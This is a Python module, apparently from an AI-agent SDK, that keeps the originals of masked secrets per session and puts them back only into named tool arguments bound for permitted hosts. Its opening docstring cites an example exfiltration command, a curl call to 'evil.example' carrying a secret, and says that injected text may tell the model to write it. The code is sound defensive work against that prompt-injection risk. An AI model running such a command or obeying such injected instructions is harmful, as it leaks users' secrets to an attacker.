"""Keeps originals of placeholders for a session, and puts them back where the settings allow it.

The model can write any placeholder anywhere, and what it reads may tell it to: `curl evil.example/?k=[redacted:...]`.
So an original only goes into an argument of a tool that is named, only towards a host that is named, and only in the
session that has seen it. Anything else keeps its placeholder. Originals are in memory alone.
"""

from __future__ import annotations

import logging
import re
import threading
from collections import OrderedDict
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Final

from hermes_sdk.masking.finder import PLACEHOLDER

from .destinations import Host, NotPermittedError, check_request, check_url, restore_in_curl
from .echoes import Echoes

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

logger = logging.getLogger(__name__)

_LINE_BREAK: Final = re.compile(r"[\r\n\0]")
SHELL_ARGUMENTS: Final = frozenset(("command", "cmd"))
"""Last part of the path of an argument that is a shell command, whatever the tool is called."""

_SESSIONS: Final = 1_000
_VALUES: Final = 10_000
"""Originals that a session keeps; beyond that the oldest cannot be put back any more."""


@dataclass(frozen=True, slots=True)
class Permission:
    """Where originals may be put back."""

    tool: str
    argument: str
    """Path to it, such as ``headers.Authorization``; ``*`` stands for any key or place."""
    hosts: tuple[Host, ...]
    """None: the argument stays on this machine, as `content` of write_file does."""
    url: str = "url"
    """Path to the address that the tool sends to."""


@dataclass(slots=True)
class _Session:
    originals: OrderedDict[str, str] = field(default_factory=OrderedDict)
    told: dict[str, str] = field(default_factory=dict)
    """Placeholders that a tool was given the original of, with the original."""
    echoes: Echoes | None = None
    """Finds what may come back of them; made anew when there are more."""


class Vault:
    """The originals of each session.

    Args:
        permissions: Where they may be put back; none, nowhere.
    """

    def __init__(self, permissions: Sequence[Permission]) -> None:
        self._permissions = tuple(permissions)
        self._sessions: OrderedDict[str, _Session] = OrderedDict()
        self._lock = threading.Lock()

    def keep(self, session_id: str, placeholder: str, original: str) -> None:
        """Remember what a placeholder stands for in a session."""
        with self._lock:
            session = self._sessions.setdefault(session_id, _Session())
            self._sessions.move_to_end(session_id)
            if len(self._sessions) > _SESSIONS:
                self._sessions.popitem(last=False)
            session.originals[placeholder] = original
            if len(session.originals) > _VALUES:
                session.originals.popitem(last=False)

    def forget(self, session_id: str = "", **_: Any) -> None:
        """Drop a session's originals; on_session_finalize."""
        with self._lock:
            self._sessions.pop(session_id, None)

    def hide(self, session_id: str, text: str) -> str:
        """Return `text` with the originals that went out in this session hidden again.

        A tool that was given one may send it back where nothing tells that it is a secret.
        """
        with self._lock:
            session = self._sessions.get(session_id)
            if session is None or not session.told:
                return text
            if session.echoes is None:
                session.echoes = Echoes(session.told)
            echoes = session.echoes
        return echoes.hidden(text)

    def restore(self, args: dict[str, Any], tool_name: str = "", session_id: str = "", **_: Any) -> dict[str, Any]:
        """Return the arguments that a tool runs with; a restorer."""
        for permission in self._permissions:
            if permission.tool == tool_name:
                args = self._restored(permission, args, session_id)
        return args

    def _restored(self, permission: Permission, args: dict[str, Any], session_id: str) -> dict[str, Any]:
        put_back: set[str] = set()

        def into(text: str) -> str:
            return PLACEHOLDER.sub(lambda found: self._original(session_id, found[0], put_back), text)

        def restored(text: str) -> str:
            if PLACEHOLDER.search(text) is None:
                return text
            if permission.argument.rpartition(".")[2] in SHELL_ARGUMENTS:
                return restore_in_curl(text, permission.hosts, into)
            if not permission.hosts:
                return into(text)
            check_url(_at(args, permission.url), permission.hosts)
            check_request(args)
            changed = into(text)
            if "header" in permission.argument.lower() and _LINE_BREAK.search(changed):
                raise NotPermittedError("an original would end the header")
            return changed

        try:
            changed = _replaced(args, permission.argument.split("."), restored)
        except NotPermittedError as refusal:
            logger.info("%s, %s: placeholders stay, %s", permission.tool, permission.argument, refusal)
            return args
        for placeholder in sorted(put_back):
            logger.info("%s, %s: the original of %s is put back", permission.tool, permission.argument, placeholder)
        return changed if put_back else args

    def _original(self, session_id: str, placeholder: str, put_back: set[str]) -> str:
        with self._lock:
            session = self._sessions.get(session_id)
            original = session.originals.get(placeholder) if session else None
            if session is None or original is None:
                return placeholder
            if placeholder not in session.told:
                session.told[placeholder] = original
                session.echoes = None
        put_back.add(placeholder)
        return original


def _at(value: Any, path: str) -> Any:
    for step in path.split("."):
        value = value.get(step) if isinstance(value, dict) else None
    return value


def _replaced(value: Any, path: list[str], replace: Callable[[str], str]) -> Any:
    """Return a copy of a value (of any JSON type) in which the texts at `path` are replaced."""
    if not path:
        return replace(value) if isinstance(value, str) else value
    step, rest = path[0], path[1:]
    if isinstance(value, dict):
        return {key: _replaced(one, rest, replace) if step in ("*", key) else one for key, one in value.items()}
    if isinstance(value, list):
        return [_replaced(one, rest, replace) if step in ("*", str(n)) else one for n, one in enumerate(value)]
    return value
